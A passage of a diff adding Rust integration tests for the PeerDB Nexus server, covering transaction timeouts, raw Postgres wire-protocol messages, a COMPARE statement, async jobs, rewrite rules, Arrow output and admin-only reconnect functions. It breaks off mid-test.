+        .simple_query("SELECT * FROM public.idle_lock_test WHERE id = 1 FOR UPDATE NOWAIT;")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::LOCK_NOT_AVAILABLE));
+
+    thread::sleep(Duration::from_millis(1000));
+    catalog
+        .simple_query("SELECT * FROM public.idle_lock_test WHERE id = 1 FOR UPDATE NOWAIT;")
+        .expect("the lock should be released with the rolled back transaction");
+    let err = client
+        .simple_query("SELECT * FROM pg_test.public.idle_lock_test;")
+        .unwrap_err();
+    assert_eq!(
+        err.code(),
+        Some(&SqlState::IDLE_IN_TRANSACTION_SESSION_TIMEOUT)
+    );
+    // the update was rolled back, and the peer can be queried again
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT name FROM pg_test.public.idle_lock_test WHERE id = 1;",
+    );
+    assert_eq!(rows, vec![vec![Some("locked".to_owned())]]);
+
+    catalog
+        .batch_execute("DROP TABLE public.idle_lock_test;")
+        .unwrap();
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn reading_a_large_result_is_not_idle() {
+    // the messages answering a simple query, up to its ReadyForQuery
+    fn query(conn: &mut RawConnection, sql: &str) -> Vec<(u8, Vec<u8>)> {
+        conn.send(b'Q', format!("{}\0", sql).as_bytes());
+        let mut messages = Vec::new();
+        loop {
+            match conn.recv() {
+                (b'Z', _) => return messages,
+                message => messages.push(message),
+            }
+        }
+    }
+
+    let server = PeerDBServer::with_env(&[("PEERDB_AUTH_RULES", "trust * 127.0.0.1/32")]);
+    create_peers::create_pg::create(&mut server.connect_dying());
+    let mut conn = RawConnection::connect();
+    query(
+        &mut conn,
+        "SET idle_in_transaction_session_timeout = '500ms';",
+    );
+    query(&mut conn, "/*+ peer(pg_test) */ BEGIN;");
+
+    // the client stalls reading the rows for longer than the timeout
+    conn.send(
+        b'Q',
+        b"/*+ peer(pg_test) */ SELECT repeat('x', 1000) FROM generate_series(1, 100000);\0",
+    );
+    for _ in 0..10 {
+        conn.recv();
+    }
+    thread::sleep(Duration::from_millis(1500));
+    loop {
+        match conn.recv() {
+            (b'D', _) => (),
+            (b'C', _) => break,
+            (tag, body) => panic!("unexpected message {}: {:?}", tag, body),
+        }
+    }
+    conn.wait_until_ready();
+
+    let messages = query(&mut conn, "/*+ peer(pg_test) */ SELECT 1;");
+    assert!(
+        messages.iter().all(|(tag, _)| *tag != b'E'),
+        "the transaction should still be open: {:?}",
+        messages
+    );
+    query(&mut conn, "/*+ peer(pg_test) */ ROLLBACK;");
+}
+
+#[test]
+fn idle_in_transaction_session_timeout_is_validated() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("SET idle_in_transaction_session_timeout = '5s';")
+        .unwrap();
+    let rows = fetch_rows(&mut client, "SHOW idle_in_transaction_session_timeout;");
+    assert_eq!(rows[0][0].as_deref(), Some("5s"));
+    let err = client
+        .simple_query("SET idle_in_transaction_session_timeout = 'later';")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INVALID_PARAMETER_VALUE));
+
+    // catalog transactions are not pinned to a peer connection and stay open
+    client
+        .simple_query("SET idle_in_transaction_session_timeout = '100ms';")
+        .unwrap();
+    client.simple_query("BEGIN;").unwrap();
+    thread::sleep(Duration::from_millis(300));
+    fetch_rows(&mut client, "SELECT 1;");
+    client.simple_query("ROLLBACK;").unwrap();
+}
+
+#[test]
+fn connect_banner_is_sent_as_a_notice() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    let banner = "Connected to PeerDB Nexus (test). Queries are audited.";
+    let rows = fetch_rows(
+        &mut client,
+        &format!("SELECT peerdb.set_config('connect_banner', '{}');", banner),
+    );
+    assert_eq!(rows[0][0].as_deref(), Some(banner));
+
+    let notices = Arc::new(std::sync::Mutex::new(Vec::new()));
+    let mut config: postgres::Config = "host=localhost port=9900 password=peerdb user=peerdb"
+        .parse()
+        .unwrap();
+    let received = notices.clone();
+    config
+        .notice_callback(move |notice| received.lock().unwrap().push(notice.message().to_owned()));
+    let mut banner_client = config.connect(NoTls).expect("connect should succeed");
+    // the notice is read with the first response
+    assert_eq!(
+        fetch_rows(&mut banner_client, "SELECT 1;"),
+        vec![vec![Some("1".to_owned())]]
+    );
+    assert_eq!(*notices.lock().unwrap(), vec![banner.to_owned()]);
+
+    // the catalog is shared with the other tests
+    fetch_rows(
+        &mut client,
+        "SELECT peerdb.set_config('connect_banner', '');",
+    );
+}
+
+// a client speaking the wire protocol itself, to control when it flushes and
+// syncs.
+struct RawConnection(TcpStream);
+
+impl RawConnection {
+    fn connect() -> Self {
+        let mut conn = Self::open();
+        conn.startup(196608);
+        conn.wait_until_ready();
+        conn
+    }
+
+    // a connection on which nothing was sent yet
+    fn open() -> Self {
+        let stream = TcpStream::connect("127.0.0.1:9900").expect("failed to connect");
+        // a server waiting for a Sync fails the test instead of hanging it
+        stream
+            .set_read_timeout(Some(Duration::from_secs(5)))
+            .unwrap();
+        RawConnection(stream)
+    }
+
+    fn startup(&mut self, protocol_version: i32) {
+        let mut startup = protocol_version.to_be_bytes().to_vec();
+        startup.extend_from_slice(b"user\0peerdb\0database\0peerdb\0\0");
+        let mut message = (startup.len() as i32 + 4).to_be_bytes().to_vec();
+        message.extend_from_slice(&startup);
+        self.0.write_all(&message).unwrap();
+    }
+
+    fn wait_until_ready(&mut self) {
+        loop {
+            match self.recv() {
+                (b'R', body) => assert_eq!(body, [0, 0, 0, 0], "expected trust authentication"),
+                (b'Z', _) => return,
+                (b'E', body) => panic!("startup failed: {}", String::from_utf8_lossy(&body)),
+                _ => (),
+            }
+        }
+    }
+
+    fn send(&mut self, tag: u8, body: &[u8]) {
+        let mut message = vec![tag];
+        message.extend_from_slice(&(body.len() as i32 + 4).to_be_bytes());
+        message.extend_from_slice(body);
+        self.0.write_all(&message).unwrap();
+    }
+
+    fn recv(&mut self) -> (u8, Vec<u8>) {
+        let mut header = [0u8; 5];
+        self.0
+            .read_exact(&mut header)
+            .expect("the server should have answered");
+        let len = i32::from_be_bytes([header[1], header[2], header[3], header[4]]) as usize;
+        let mut body = vec![0u8; len - 4];
+        self.0.read_exact(&mut body).unwrap();
+        (header[0], body)
+    }
+
+    // the tags of the next messages, skipping notices
+    fn recv_tags(&mut self, count: usize) -> Vec<(u8, Vec<u8>)> {
+        let mut messages = Vec::new();
+        while messages.len() < count {
+            let message = self.recv();
+            if message.0 != b'N' {
+                messages.push(message);
+            }
+        }
+        messages
+    }
+}
+
+#[test]
+fn close_frees_portals_and_statements() {
+    let _server = PeerDBServer::with_env(&[("PEERDB_AUTH_RULES", "trust * 127.0.0.1/32")]);
+    let mut conn = RawConnection::connect();
+
+    conn.send(b'P', b"s\0SELECT n FROM generate_series(1, 10) AS n\0\0\0");
+    conn.send(b'B', b"p\0s\0\0\0\0\0\0\0");
+    let mut execute = b"p\0".to_vec();
+    execute.extend_from_slice(&3i32.to_be_bytes());
+    conn.send(b'E', &execute);
+    conn.send(b'C', b"Pp\0");
+    // closing what doesn't exist is not an error
+    conn.send(b'C', b"Pnot_a_portal\0");
+    conn.send(b'C', b"Ss\0");
+    conn.send(b'S', &[]);
+    let tags = conn
+        .recv_tags(10)
+        .into_iter()
+        .map(|(tag, _)| tag)
+        .collect::<Vec<_>>();
+    assert_eq!(tags, b"12DDDs333Z");
+
+    // the closed portal and statement can't be used anymore
+    let mut execute = b"p\0".to_vec();
+    execute.extend_from_slice(&0i32.to_be_bytes());
+    conn.send(b'E', &execute);
+    conn.send(b'S', &[]);
+    let messages = conn.recv_tags(2);
+    assert_eq!(messages[0].0, b'E', "executing a closed portal should fail");
+    assert_eq!(messages[1].0, b'Z');
+    conn.send(b'B', b"p\0s\0\0\0\0\0\0\0");
+    conn.send(b'S', &[]);
+    let messages = conn.recv_tags(2);
+    assert_eq!(
+        messages[0].0, b'E',
+        "binding a closed statement should fail"
+    );
+    assert_eq!(messages[1].0, b'Z');
+}
+
+#[test]
+fn gssenc_request_is_declined_before_startup() {
+    let _server = PeerDBServer::with_env(&[("PEERDB_AUTH_RULES", "trust * 127.0.0.1/32")]);
+    let mut conn = RawConnection::open();
+
+    let mut request = 8i32.to_be_bytes().to_vec();
+    request.extend_from_slice(&80877104i32.to_be_bytes());
+    conn.0.write_all(&request).unwrap();
+    let mut answer = [0u8; 1];
+    conn.0.read_exact(&mut answer).unwrap();
+    assert_eq!(&answer, b"N");
+
+    // the client goes on with a plain startup on the same connection
+    conn.startup(196608);
+    conn.wait_until_ready();
+}
+
+#[test]
+fn gssenc_request_sent_in_pieces_is_declined() {
+    let _server = PeerDBServer::with_env(&[("PEERDB_AUTH_RULES", "trust * 127.0.0.1/32")]);
+    let mut conn = RawConnection::open();
+    conn.0.set_nodelay(true).unwrap();
+
+    let mut request = 8i32.to_be_bytes().to_vec();
+    request.extend_from_slice(&80877104i32.to_be_bytes());
+    for piece in request.chunks(3) {
+        conn.0.write_all(piece).unwrap();
+        thread::sleep(Duration::from_millis(100));
+    }
+    let mut answer = [0u8; 1];
+    conn.0.read_exact(&mut answer).unwrap();
+    assert_eq!(&answer, b"N");
+
+    conn.startup(196608);
+    conn.wait_until_ready();
+}
+
+#[test]
+fn unsupported_protocol_versions_are_refused() {
+    let _server = PeerDBServer::with_env(&[("PEERDB_AUTH_RULES", "trust * 127.0.0.1/32")]);
+
+    let mut conn = RawConnection::open();
+    conn.startup(4 << 16);
+    let (tag, body) = conn.recv();
+    assert_eq!(tag, b'E');
+    let body = String::from_utf8_lossy(&body);
+    assert!(body.contains("SFATAL\0"), "{}", body);
+    assert!(body.contains("C0A000\0"), "{}", body);
+    assert!(
+        body.contains("unsupported frontend protocol 4.0: server supports 3.0 to 3.0"),
+        "{}",
+        body
+    );
+    let mut rest = Vec::new();
+    conn.0.read_to_end(&mut rest).unwrap();
+    assert!(rest.is_empty(), "the connection should be closed");
+
+    // protocol 2 clients get the error in their own format
+    let mut conn = RawConnection::open();
+    conn.startup(2 << 16);
+    let mut answer = Vec::new();
+    conn.0.read_to_end(&mut answer).unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&answer),
+        "EFATAL:  unsupported frontend protocol 2.0: server supports 3.0 to 3.0\n\0"
+    );
+}
+
+#[test]
+fn flush_sends_pending_responses_before_sync() {
+    let _server = PeerDBServer::with_env(&[("PEERDB_AUTH_RULES", "trust * 127.0.0.1/32")]);
+    let mut conn = RawConnection::connect();
+
+    // Parse with an int4 parameter, Describe the statement, Flush
+    let mut parse = b"\0SELECT $1::int4 + 1 AS n\0".to_vec();
+    parse.extend_from_slice(&1i16.to_be_bytes());
+    parse.extend_from_slice(&(Type::INT4.oid() as i32).to_be_bytes());
+    conn.send(b'P', &parse);
+    conn.send(b'D', b"S\0");
+    conn.send(b'H', &[]);
+    let messages = conn.recv_tags(3);
+    assert_eq!(messages[0].0, b'1', "expected ParseComplete");
+    assert_eq!(messages[1].0, b't', "expected ParameterDescription");
+    let mut description = 1i16.to_be_bytes().to_vec();
+    description.extend_from_slice(&Type::INT4.oid().to_be_bytes());
+    assert_eq!(messages[1].1, description);
+    assert_eq!(messages[2].0, b'T', "expected RowDescription");
+
+    // Bind and Execute in the same transaction, again only flushed
+    let mut bind = b"\0\0".to_vec();
+    bind.extend_from_slice(&0i16.to_be_bytes());
+    bind.extend_from_slice(&1i16.to_be_bytes());
+    bind.extend_from_slice(&1i32.to_be_bytes());
+    bind.extend_from_slice(b"4");
+    bind.extend_from_slice(&0i16.to_be_bytes());
+    conn.send(b'B', &bind);
+    let mut execute = b"\0".to_vec();
+    execute.extend_from_slice(&0i32.to_be_bytes());
+    conn.send(b'E', &execute);
+    conn.send(b'H', &[]);
+    let messages = conn.recv_tags(3);
+    assert_eq!(messages[0].0, b'2', "expected BindComplete");
+    assert_eq!(messages[1].0, b'D', "expected DataRow");
+    assert_eq!(&messages[1].1[6..], b"5");
+    assert_eq!(messages[2].0, b'C', "expected CommandComplete");
+
+    conn.send(b'S', &[]);
+    assert_eq!(conn.recv_tags(1)[0].0, b'Z', "expected ReadyForQuery");
+    conn.send(b'X', &[]);
+}
+
+#[test]
+fn compare_summarizes_identical_and_disjoint_results() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    let row = |status: &str, rows: &str, first: Option<&str>, second: Option<&str>| {
+        vec![
+            Some(status.to_owned()),
+            Some(rows.to_owned()),
+            first.map(str::to_owned),
+            second.map(str::to_owned),
+        ]
+    };
+
+    assert_eq!(
+        fetch_rows(
+            &mut client,
+            "COMPARE (SELECT generate_series(1, 100) AS n) \
+            WITH (SELECT generate_series(1, 100) AS n ORDER BY n DESC);"
+        ),
+        vec![
+            row("matching", "100", None, None),
+            row("differing", "0", None, None),
+            row("missing_from_second", "0", None, None),
+            row("missing_from_first", "0", None, None),
+        ]
+    );
+
+    assert_eq!(
+        fetch_rows(
+            &mut client,
+            "COMPARE (SELECT 1 AS n, 'a' AS name) WITH (SELECT 2 AS n, 'b' AS name);"
+        ),
+        vec![
+            row("matching", "0", None, None),
+            row("differing", "0", None, None),
+            row("missing_from_second", "1", Some(r#"[1,"a"]"#), None),
+            row("missing_from_first", "1", None, Some(r#"[2,"b"]"#)),
+        ]
+    );
+
+    // duplicates match one for one
+    let rows = fetch_rows(
+        &mut client,
+        "COMPARE (SELECT 1 AS n FROM generate_series(1, 3)) \
+        WITH (SELECT 1 AS n FROM generate_series(1, 2));",
+    );
+    assert_eq!(rows[0][1].as_deref(), Some("2"));
+    assert_eq!(rows[2][1].as_deref(), Some("1"));
+}
+
+#[test]
+fn compare_using_a_key_reports_differing_rows() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let rows = fetch_rows(
+        &mut client,
+        "COMPARE (SELECT i AS id, i * 2 AS v FROM generate_series(1, 10) AS i) \
+        WITH (SELECT i AS id, CASE WHEN i = 3 THEN 0 ELSE i * 2 END AS v \
+            FROM generate_series(2, 12) AS i) \
+        USING (id);",
+    );
+    let counts = rows
+        .iter()
+        .map(|row| (row[0].clone().unwrap(), row[1].clone().unwrap()))
+        .collect::<Vec<_>>();
+    assert_eq!(
+        counts,
+        [
+            ("matching", "8"),
+            ("differing", "1"),
+            ("missing_from_second", "1"),
+            ("missing_from_first", "2"),
+        ]
+        .map(|(status, rows)| (status.to_owned(), rows.to_owned()))
+    );
+    assert_eq!(rows[1][2].as_deref(), Some("[3,6]"));
+    assert_eq!(rows[1][3].as_deref(), Some("[3,0]"));
+    assert_eq!(rows[2][2].as_deref(), Some("[1,2]"));
+    assert!(matches!(
+        rows[3][3].as_deref(),
+        Some("[11,22]") | Some("[12,24]")
+    ));
+
+    let err = client
+        .simple_query("COMPARE (SELECT 1 AS id) WITH (SELECT 1 AS id, 2 AS v);")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::SYNTAX_ERROR));
+    let err = client
+        .simple_query("COMPARE (SELECT 1 AS id) WITH (SELECT 1 AS key) USING (id);")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_COLUMN));
+    let err = client
+        .simple_query("COMPARE (SELECT 1) WITH (DELETE FROM t);")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::SYNTAX_ERROR));
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn compare_checks_a_table_copied_to_another_peer() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(
+            "DROP TABLE IF EXISTS public.compare_source, public.compare_copy;
+            CREATE TABLE public.compare_source AS
+                SELECT i AS id, md5(i::text) AS name FROM generate_series(1, 1000) AS i;
+            CREATE TABLE public.compare_copy AS
+                SELECT * FROM public.compare_source WHERE id <> 500;",
+        )
+        .expect("failed to create tables");
+
+    let rows = fetch_rows(
+        &mut client,
+        "COMPARE (SELECT id, name FROM pg_test.public.compare_source) \
+        WITH (SELECT id, name FROM public.compare_copy) USING (id);",
+    );
+    assert_eq!(rows[0][1].as_deref(), Some("999"));
+    assert_eq!(rows[2][1].as_deref(), Some("1"));
+    assert!(rows[2][2].as_deref().unwrap().starts_with("[500,"));
+
+    catalog
+        .batch_execute("DROP TABLE public.compare_source, public.compare_copy;")
+        .unwrap();
+}
+
+// polls peerdb.async_status until the job is no longer running, returning
+// its status row.
+fn wait_for_async_job(client: &mut Client, id: &str) -> Vec<Option<String>> {
+    for _ in 0..100 {
+        let rows = fetch_rows(client, &format!("SELECT peerdb.async_status('{}');", id));
+        if rows[0][1].as_deref() != Some("running") {
+            return rows[0].clone();
+        }
+        thread::sleep(Duration::from_millis(100));
+    }
+    panic!("async job {} is still running", id);
+}
+
+#[test]
+fn async_query_is_submitted_polled_and_fetched() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT peerdb.submit_async('SELECT pg_sleep(0.2), i, i * 2 AS doubled \
+        FROM generate_series(1, 5) AS i');",
+    );
+    let id = rows[0][0]
+        .clone()
+        .expect("submit_async should return a job id");
+    let rows = fetch_rows(
+        &mut client,
+        &format!("SELECT peerdb.async_status('{}');", id),
+    );
+    assert_eq!(rows[0][1].as_deref(), Some("running"));
+    let err = client
+        .simple_query(&format!("SELECT peerdb.async_result('{}');", id))
+        .unwrap_err();
+    assert_eq!(
+        err.code(),
+        Some(&SqlState::OBJECT_NOT_IN_PREREQUISITE_STATE)
+    );
+
+    // the job goes on after the connection that submitted it is closed
+    drop(client);
+    let mut client = server.connect_dying();
+    let status = wait_for_async_job(&mut client, &id);
+    assert_eq!(status[1].as_deref(), Some("succeeded"));
+    assert_eq!(status[2], None);
+    assert_eq!(status[3].as_deref(), Some("5"));
+
+    let rows = fetch_rows(
+        &mut client,
+        &format!("SELECT peerdb.async_result('{}');", id),
+    );
+    let doubled = rows
+        .iter()
+        .map(|row| row[2].clone().unwrap())
+        .collect::<Vec<_>>();
+    assert_eq!(doubled, ["2", "4", "6", "8", "10"]);
+    // the rows are returned once, the status stays
+    let err = client
+        .simple_query(&format!("SELECT peerdb.async_result('{}');", id))
+        .unwrap_err();
+    assert_eq!(
+        err.code(),
+        Some(&SqlState::OBJECT_NOT_IN_PREREQUISITE_STATE)
+    );
+    let status = wait_for_async_job(&mut client, &id);
+    assert_eq!(status[1].as_deref(), Some("succeeded"));
+
+    let mut catalog = connect_catalog();
+    let row = catalog
+        .query_one(
+            "SELECT status, rows, finished_at IS NOT NULL FROM nexus_async_jobs WHERE id = $1",
+            &[&id],
+        )
+        .expect("the job should be recorded in the catalog");
+    assert_eq!(row.get::<_, String>(0), "succeeded");
+    assert_eq!(row.get::<_, i64>(1), 5);
+    assert!(row.get::<_, bool>(2));
+}
+
+#[test]
+fn async_query_failures_are_reported() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT peerdb.submit_async('SELECT 1 / (i - 3) FROM generate_series(1, 5) AS i');",
+    );
+    let id = rows[0][0].clone().unwrap();
+    let status = wait_for_async_job(&mut client, &id);
+    assert_eq!(status[1].as_deref(), Some("failed"));
+    assert!(status[4].as_deref().unwrap().contains("division by zero"));
+    let err = client
+        .simple_query(&format!("SELECT peerdb.async_result('{}');", id))
+        .unwrap_err();
+    assert!(err.to_string().contains("division by zero"));
+
+    let err = client
+        .simple_query("SELECT peerdb.async_status('no-such-job');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+    let err = client
+        .simple_query("SELECT peerdb.submit_async('DELETE FROM t');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::FEATURE_NOT_SUPPORTED));
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn async_query_runs_on_the_peer() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT peerdb.submit_async('SELECT count(*) FROM pg_test.pg_catalog.pg_class');",
+    );
+    let id = rows[0][0].clone().unwrap();
+    let status = wait_for_async_job(&mut client, &id);
+    assert_eq!(status[1].as_deref(), Some("succeeded"));
+    assert_eq!(status[2].as_deref(), Some("pg_test"));
+    let rows = fetch_rows(
+        &mut client,
+        &format!("SELECT peerdb.async_result('{}');", id),
+    );
+    assert!(rows[0][0].as_deref().unwrap().parse::<i64>().unwrap() > 0);
+}
+
+#[test]
+fn rewrite_rules_are_checked_when_added() {
+    // non-admins connect without a password from localhost
+    let server = PeerDBServer::with_env(&[(
+        "PEERDB_AUTH_RULES",
+        "trust * 127.0.0.1/32,trust * ::1/128,scram",
+    )]);
+    let mut client = server.connect_dying();
+
+    let err = client
+        .simple_query(
+            "SELECT peerdb.add_rewrite_rule('no_peer', 'no_such_peer', 'orders', 'rename', 'orders_v2');",
+        )
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+    let err = client
+        .simple_query("SELECT peerdb.add_rewrite_rule('too_few', 'orders');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INVALID_PARAMETER_VALUE));
+    let err = client
+        .simple_query("SELECT peerdb.drop_rewrite_rule('no_such_rule');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+
+    let mut non_admin = Client::connect("host=localhost port=9900 user=anyone", NoTls)
+        .expect("localhost connections should not need a password");
+    let err = non_admin
+        .simple_query("SELECT peerdb.drop_rewrite_rule('no_such_rule');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INSUFFICIENT_PRIVILEGE));
+    // anyone can see the rules in effect
+    non_admin
+        .simple_query("SELECT * FROM peerdb.rewrite_rules;")
+        .expect("listing rewrite rules should succeed");
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn rewrite_rules_rename_and_filter_tables_of_a_peer() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+    for rule in ["orders_moved", "orders_tenant"] {
+        let _ = client.simple_query(&format!("SELECT peerdb.drop_rewrite_rule('{}');", rule));
+    }
+
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(
+            "DROP TABLE IF EXISTS public.rewrite_orders_v2;
+            CREATE TABLE public.rewrite_orders_v2 AS
+                SELECT i AS id, i % 3 AS tenant_id FROM generate_series(1, 30) AS i;",
+        )
+        .expect("failed to create table");
+
+    // the deprecated name reads the new table
+    fetch_rows(
+        &mut client,
+        "SELECT peerdb.add_rewrite_rule('orders_moved', 'pg_test', 'public.rewrite_orders', \
+        'rename', 'public.rewrite_orders_v2');",
+    );
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT count(*) FROM pg_test.public.rewrite_orders;",
+    );
+    assert_eq!(rows[0][0].as_deref(), Some("30"));
+
+    // tenants only see their rows, under either name
+    fetch_rows(
+        &mut client,
+        "SELECT peerdb.add_rewrite_rule('orders_tenant', 'pg_test', 'public.rewrite_orders_v2', \
+        'filter', 'tenant_id = 1');",
+    );
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT count(*), min(o.tenant_id), max(o.tenant_id) \
+        FROM pg_test.public.rewrite_orders_v2 AS o;",
+    );
+    assert_eq!(
+        rows[0],
+        [Some("10".into()), Some("1".into()), Some("1".into())]
+    );
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT count(*) FROM pg_test.public.rewrite_orders WHERE rewrite_orders.id > 15;",
+    );
+    assert_eq!(rows[0][0].as_deref(), Some("5"));
+    let err = client
+        .simple_query("DELETE FROM pg_test.public.rewrite_orders_v2 WHERE id = 1;")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INSUFFICIENT_PRIVILEGE));
+
+    let rules = fetch_rows(&mut client, "SELECT * FROM peerdb.rewrite_rules;");
+    let rule = rules
+        .iter()
+        .find(|rule| rule[0].as_deref() == Some("orders_tenant"))
+        .expect("peerdb.rewrite_rules should list the rule");
+    assert_eq!(rule[3].as_deref(), Some("filter"));
+    assert_eq!(rule[4].as_deref(), Some("tenant_id = 1"));
+    assert_eq!(rule[5].as_deref(), Some("peerdb"));
+    let log = std::fs::read_to_string("server.log").expect("unable to read server.log");
+    assert!(log
+        .lines()
+        .any(|line| line.contains("rewrite rules orders_moved, orders_tenant applied")));
+
+    for rule in ["orders_moved", "orders_tenant"] {
+        fetch_rows(
+            &mut client,
+            &format!("SELECT peerdb.drop_rewrite_rule('{}');", rule),
+        );
+    }
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT count(*) FROM pg_test.public.rewrite_orders_v2;",
+    );
+    assert_eq!(rows[0][0].as_deref(), Some("30"));
+    catalog
+        .batch_execute("DROP TABLE public.rewrite_orders_v2;")
+        .unwrap();
+}
+
+#[test]
+fn result_format_arrow_sends_queries_as_copy_data() {
+    let _server = PeerDBServer::with_env(&[("PEERDB_AUTH_RULES", "trust * 127.0.0.1/32")]);
+    let mut conn = RawConnection::connect();
+
+    conn.send(b'Q', b"SET peerdb.result_format = 'arrow';\0");
+    conn.wait_until_ready();
+    conn.send(b'Q', b"SELECT i AS n FROM generate_series(1, 3) AS i;\0");
+    let (tag, _) = conn.recv_tags(1).remove(0);
+    assert_eq!(tag, b'H', "expected a CopyOutResponse");
+    let mut data = Vec::new();
+    loop {
+        match conn.recv() {
+            (b'd', body) => data.extend_from_slice(&body),
+            (b'c', _) => break,
+            (b'E', body) => panic!("query failed: {}", String::from_utf8_lossy(&body)),
+            _ => (),
+        }
+    }
+    conn.wait_until_ready();
+
+    let batches = arrow_ipc::reader::StreamReader::try_new(data.as_slice(), None)
+        .expect("the data should be an arrow stream")
+        .collect::<Result<Vec<_>, _>>()
+        .expect("the batches should decode");
+    assert_eq!(batches.len(), 1);
+    assert_eq!(batches[0].schema().field(0).name(), "n");
+    let values = batches[0]
+        .column(0)
+        .as_primitive::<arrow_array::types::Int32Type>();
+    assert_eq!(values.values()[..], [1, 2, 3]);
+
+    // statements other than queries are answered as usual
+    conn.send(b'Q', b"SET peerdb.result_format = 'postgres';\0");
+    let (tag, _) = conn.recv_tags(1).remove(0);
+    assert_eq!(tag, b'C');
+    conn.wait_until_ready();
+    conn.send(b'Q', b"SELECT 1;\0");
+    let (tag, _) = conn.recv_tags(1).remove(0);
+    assert_eq!(tag, b'T', "expected a RowDescription");
+    conn.wait_until_ready();
+}
+
+#[test]
+fn reconnecting_peers_is_restricted_to_admins() {
+    // non-admins connect without a password from localhost
+    let server = PeerDBServer::with_env(&[(
+        "PEERDB_AUTH_RULES",
+        "trust * 127.0.0.1/32,trust * ::1/128,scram",
+    )]);
+    let mut client = server.connect_dying();
+
+    let rows = fetch_rows(&mut client, "SELECT peerdb.reconnect_all();");
+    assert_eq!(rows.len(), 1);
+    assert_eq!(rows[0].len(), 2);
+    let err = client
+        .simple_query("SELECT peerdb.reconnect_peer('no_such_peer');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+    let err = client
+        .simple_query("SELECT peerdb.reconnect_all(1);")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INVALID_PARAMETER_VALUE));
+
+    let mut non_admin = Client::connect("host=localhost port=9900 user=anyone", NoTls)
+        .expect("localhost connections should not need a password");
+    for query in [
+        "SELECT peerdb.reconnect_all();",
+        "SELECT peerdb.reconnect_peer('no_such_peer');",
+    ] {
+        let err = non_admin.simple_query(query).unwrap_err();
+        assert_eq!(err.code(), Some(&SqlState::INSUFFICIENT_PRIVILEGE));
+    }
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn reconnect_all_replaces_cached_peer_connections() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+    let mut other_client = server.connect_dying();
+    let pid_query = "SELECT pg_backend_pid() FROM pg_test.pg_catalog.pg_class LIMIT 1;";
+
+    let pid = fetch_rows(&mut client, pid_query);
+    let other_pid = fetch_rows(&mut other_client, pid_query);
+    // the executor is cached between queries
+    assert_eq!(fetch_rows(&mut client, pid_query), pid);
+
+    // a connection in a transaction keeps its executor
+    other_client
+        .simple_query("/*+ peer(pg_test) */ BEGIN;")
+        .unwrap();
+    let rows = fetch_rows(&mut client, "SELECT peerdb.reconnect_all();");
+    assert_eq!(rows[0][1].as_deref(), Some("1"));
+    assert_ne!(fetch_rows(&mut client, pid_query), pid);
+    assert_eq!(fetch_rows(&mut other_client, pid_query), other_pid);
+    other_client
+        .simple_query("/*+ peer(pg_test) */ ROLLBACK;")
+        .unwrap();
+
+    let pid = fetch_rows(&mut client, pid_query);
+    let rows = fetch_rows(&mut client, "SELECT peerdb.reconnect_peer('pg_test');");
+    assert_eq!(rows[0][1].as_deref(), Some("0"));
+    assert_ne!(fetch_rows(&mut client, pid_query), pid);
+    assert_ne!(fetch_rows(&mut other_client, pid_query), other_pid);
+
+    // the old connections were closed
+    thread::sleep(Duration::from_millis(500));
+    let mut catalog = connect_catalog();
+    let rows = catalog
+        .query(
+            "SELECT count(*) FROM pg_stat_activity WHERE pid = $1",
+            &[&pid[0][0].as_deref().unwrap().parse::<i32>().unwrap()],
+        )
+        .unwrap();
+    assert_eq!(rows[0].get::<_, i64>(0), 0);
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn least_recently_used_peer_connections_are_closed() {
+    let server = PeerDBServer::with_env(&[("PEERDB_MAX_CACHED_EXECUTORS", "1")]);
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+    dotenvy::dotenv().ok();
+    let env = |name: &str| std::env::var(name).unwrap_or_else(|_| panic!("{} not set", name));
+    client
+        .simple_query(&format!(
